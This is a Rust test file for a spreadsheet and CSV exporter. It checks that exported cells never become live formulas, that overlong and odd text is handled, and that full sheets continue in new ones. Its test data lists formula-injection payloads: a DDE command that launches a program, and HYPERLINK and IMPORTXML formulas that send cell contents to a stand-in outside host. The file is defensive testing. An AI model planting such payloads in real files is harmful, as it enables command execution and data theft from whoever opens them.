//! Files read back: every trick with formulas stays a text, numbers and days stay what they are, long files go on.

use super::{Format, Head, Sheet};
use crate::platform::list::Value;
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use portico_types::{Currency, Day, Money, Quantity};
use std::fs::File;
use std::io::Read as _;

/// What people type to have a spreadsheet do something for them.
const TRICKS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://elsewhere.example?x=\"&A1,\"Look\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1＋1",
    "\";=1+1;\"",
    "mug;=1+1",
    "mug\n=1+1",
    "{=1+1}",
    "=IMPORTXML(CONCAT(\"https://elsewhere.example\",A1),\"//a\")",
];

fn folder() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

fn made(format: Format, rows: &[Vec<Value<'_>>]) -> File {
    let folder = folder();
    let mut sheet = Sheet::new(format, folder.path(), "Orders [of] all: 1/2").unwrap();
    let heads: Vec<Head<'_>> =
        ["Text", "Money", "Number", "Day"].iter().map(|label| Head { label, width: 12 }).collect();
    sheet.head(&heads).unwrap();
    for row in rows {
        sheet.row(row).unwrap();
    }
    assert_eq!(sheet.rows(), rows.len() as u64);
    sheet.finish().unwrap()
}

fn tricks() -> Vec<Vec<Value<'static>>> {
    let pounds = Currency::from_code("GBP").unwrap();
    let rest = || -> Vec<Value<'static>> {
        vec![
            Money::new(-123_450, pounds).into(),
            Quantity::steps(1500, 3).into(),
            Day::parse("2026-11-27").into(),
        ]
    };
    TRICKS.iter().map(|trick| [vec![Value::text(trick)], rest()].concat()).collect()
}

#[test]
fn a_workbook_holds_texts_numbers_and_days_and_never_a_formula() {
    let mut file = made(Format::Xlsx, &tricks());
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(&bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["Orders of all 12"]);
    let formulas = book.worksheet_formula("Orders of all 12").unwrap();
    assert_eq!(formulas.cells().filter(|(_, _, text)| !text.is_empty()).count(), 0);
    let cells = book.worksheet_range("Orders of all 12").unwrap();
    assert_eq!(cells.get_value((0, 1)), Some(&Data::String("Money".into())));
    for (at, trick) in (1_u32..).zip(TRICKS) {
        let text = cells.get_value((at, 0)).unwrap().to_string();
        let plain = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
        assert_eq!(plain(&text), plain(trick), "as it was typed");
        assert_eq!(cells.get_value((at, 1)), Some(&Data::Float(-1234.5)));
        assert_eq!(cells.get_value((at, 2)), Some(&Data::Float(1.5)));
        let Some(Data::DateTime(day)) = cells.get_value((at, 3)) else { panic!("no day") };
        assert_eq!(day.as_f64(), 46_353.0, "27 November 2026");
    }
}

#[test]
fn csv_begins_with_a_mark_and_no_text_of_it_begins_a_formula() {
    let mut text = String::new();
    made(Format::Csv, &tricks()).read_to_string(&mut text).unwrap();
    let body = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    assert!(body.starts_with("Text,Money,Number,Day\r\n"), "{body}");
    let mut reader = ::csv::Reader::from_reader(body.as_bytes());
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), TRICKS.len());
    for (record, trick) in records.iter().zip(TRICKS) {
        assert_eq!(record[0].replace('\'', ""), trick.replace('\'', ""));
        assert_eq!((&record[1], &record[2], &record[3]), ("-1234.50", "1.500", "2026-11-27"));
        // However a program splits it, no cell begins a formula.
        for cell in record[0].split([';', '\t', '\r', '\n']) {
            let begins = cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋']);
            assert!(!begins, "{trick:?} became {:?}", &record[0]);
        }
    }
}

#[test]
fn what_a_cell_cannot_hold_is_cut_and_odd_characters_pass() {
    let long = "🍵".repeat(40_000);
    let odd = "\u{1}\u{1F}\u{FFFE} & < > \"' Ørsted";
    let rows = [vec![Value::text(&long)], vec![Value::text(odd)], vec![Value::count(i64::MAX)]];
    let mut bytes = Vec::new();
    made(Format::Xlsx, &rows).read_to_end(&mut bytes).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(&bytes)).unwrap();
    let cells = book.worksheet_range("Orders of all 12").unwrap();
    assert!(cells.get_value((1, 0)).unwrap().to_string().ends_with('…'));
    assert!(cells.get_value((2, 0)).unwrap().to_string().ends_with("& < > \"' Ørsted"));
    assert_eq!(cells.get_value((3, 0)), Some(&Data::String(i64::MAX.to_string())));
}

#[test]
fn a_workbook_goes_on_in_another_sheet_where_one_is_full() {
    let folder = folder();
    let mut book = super::xlsx::Xlsx::split_at(folder.path(), "Lines", 3).unwrap();
    book.head(&[Head { label: "Count", width: 8 }]).unwrap();
    for count in 1..=5 {
        book.row(&[Value::count(count)]).unwrap();
    }
    let mut bytes = Vec::new();
    let mut file = book.finish().unwrap();
    std::io::Seek::rewind(&mut file).unwrap();
    file.read_to_end(&mut bytes).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(&bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["Lines", "Lines 2", "Lines 3"]);
    let mut seen = Vec::new();
    for name in book.sheet_names() {
        let cells = book.worksheet_range(&name).unwrap();
        assert_eq!(cells.get_value((0, 0)), Some(&Data::String("Count".into())), "{name}");
        seen.extend(cells.rows().skip(1).map(|row| row[0].to_string()));
    }
    assert_eq!(seen, ["1", "2", "3", "4", "5"]);
}
